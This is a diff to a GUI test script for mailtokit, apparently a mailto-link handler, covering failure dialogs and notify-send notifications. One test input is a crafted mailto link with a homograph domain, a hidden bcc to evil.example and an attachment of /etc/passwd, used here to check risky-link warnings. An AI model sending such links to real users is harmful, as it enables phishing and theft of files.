@@ -51,6 +51,15 @@ checks = Checks("open_failures", show_passed=True)
 check, failures = checks.check, checks.failures
 
 
+def notification(d):
+    """The newest notification's argv without the options that gather failures into one notice
+    (--print-id, --replace-id=N: tests/gui/page_flood_test.py checks those): whether they are
+    there depends on the notification server, and a notify-send that fails with them is run
+    again without."""
+    n = wait_record(d, "notify-send")
+    return [a for a in n if a != "--print-id" and not a.startswith("--replace-id=")]
+
+
 require("zenity", "kdialog", "notify-send", "convert", "import")
 with Session("open-failures") as s:
     d = Desktop(s, PROG)
@@ -144,9 +153,10 @@ with Session("open-failures") as s:
                     s.screenshot(RESULTS / "open_failure_refused.png")
                 click_button(s, win, 0, 1, RESULTS / "open_failure_buttons.png")
                 s.wait_window(titles.FAILURE, timeout=10, gone=True)
+                d.wait_failure_window_ended()
                 check(d.recorded("notify-send") == [], f"{where}: no notification besides the dialog")
             else:
-                n = wait_record(d, "notify-send")
+                n = notification(d)
                 check(n[1:5] == ["--app-name=mailtokit", "--urgency=critical", "--",
                                  titles.FAILURE_TEXT], f"{where}: a critical notification: {n[1:5]}")
                 body = n[-1]
@@ -175,6 +185,7 @@ with Session("open-failures") as s:
     s.screenshot(RESULTS / "open_failure_kdialog.png")
     click_button(s, win, 0, 1, RESULTS / "open_failure_kdialog_click.png")
     s.wait_window(titles.FAILURE_ANY, timeout=10, gone=True)
+    d.wait_failure_window_ended()
 
     # In German (LANGUAGE=de, a UTF-8 locale, the build's catalogs): the real zenity shows the
     # failure dialog with the German title, reason and "what to do" (issue 24), taken from po/de.po.
@@ -205,6 +216,7 @@ with Session("open-failures") as s:
     s.screenshot(RESULTS / "open_failure_dialog_de.png")
     click_button(s, win, 0, 1, RESULTS / "open_failure_dialog_de_click.png")
     s.wait_window(titles.exactly(de_title), timeout=10, gone=True)
+    d.wait_failure_window_ended()
 
     # No display, confirm = risky: nobody can be asked, so the draft opens and the desktop is told.
     d.write_config(f'target = custom\ncommand = "{recorder}" %u\n')
@@ -212,7 +224,7 @@ with Session("open-failures") as s:
     p, log = d.start(["open", "mailto:admin@%D0%B0pple.com?bcc=x@evil.example&attach=%2Fetc%2Fpasswd"],
                      env={"DISPLAY": ""})
     rc = wait_exit(p, 30, "fallback open")
-    n = wait_record(d, "notify-send")
+    n = notification(d)
     check(rc == 0 and len(d.recorded("recorder")) == 1, "no display, confirm = risky: the draft was opened")
     check(n[1:5] == ["--app-name=mailtokit", "--urgency=critical", "--", "mailtokit opened a risky link without asking"]
           and "opened without asking" in n[-1]
@@ -284,6 +296,7 @@ with Session("open-failures") as s:
     s.activate(settings)
     a11y.press(a11y.find(pyatspi, "mailtokit-ask", settings_ready, 60, "the Mail links window, usable"))
     s.wait_window(titles.exactly("Mail links"), timeout=30, gone=True)
+    d.wait_failure_window_ended()
     check((s.home / ".config/mailtokit/config").read_text() == 'target = custom\ncommand = /bin/false %u\n',
           "Cancel in the Mail links window changed nothing")
 
